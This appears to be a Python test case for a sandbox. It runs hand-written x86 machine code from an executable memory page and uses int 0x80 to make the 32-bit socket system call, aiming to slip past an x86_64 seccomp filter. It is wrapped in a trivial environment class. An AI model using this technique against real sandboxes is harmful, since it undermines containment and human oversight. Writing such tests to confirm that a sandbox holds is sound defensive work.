"""Attack: make system calls through the 32-bit ABI (``int 0x80`` from machine code mapped with
ctypes), where a filter written for x86_64 numbers would not match: i386 ``socket`` is number 359.
Stopped by seccomp, which kills a process that uses a foreign system-call ABI (SIGSYS). x86_64 only.
"""

import ctypes
import os
import platform

CODE = b"".join(
    [
        b"\x53",  # push rbx (callee-saved)
        b"\xb8\x67\x01\x00\x00",  # mov eax, 359: i386 socket
        b"\xbb\x02\x00\x00\x00",  # mov ebx, 2: AF_INET
        b"\xb9\x01\x00\x00\x00",  # mov ecx, 1: SOCK_STREAM
        b"\x31\xd2",  # xor edx, edx: protocol 0
        b"\xcd\x80",  # int 0x80
        b"\x5b",  # pop rbx
        b"\xc3",  # ret (eax: the descriptor or -errno)
    ]
)
PROT_RWX = 7
MAP_PRIVATE_ANONYMOUS = 0x22


class Int80Env:
    def reset(self, seed=None):
        if platform.machine() != "x86_64":
            raise NotImplementedError("this attack is written for x86_64")
        libc = ctypes.CDLL(None, use_errno=True)
        libc.mmap.restype = ctypes.c_void_p
        libc.mmap.argtypes = [
            ctypes.c_void_p,
            ctypes.c_size_t,
            ctypes.c_int,
            ctypes.c_int,
            ctypes.c_int,
            ctypes.c_long,
        ]
        page = libc.mmap(None, 4096, PROT_RWX, MAP_PRIVATE_ANONYMOUS, -1, 0)
        if page in (None, ctypes.c_void_p(-1).value):
            err = ctypes.get_errno()
            raise OSError(err, f"mmap failed: {os.strerror(err)}")
        ctypes.memmove(page, CODE, len(CODE))
        fd = ctypes.CFUNCTYPE(ctypes.c_int)(page)()
        if fd < 0:
            raise OSError(-fd, f"i386 socket() failed: {os.strerror(-fd)}")
        return "Say anything.", {}

    def step(self, action):
        return "done", 1.0, True, False, {}

    def solution(self):
        return "anything"
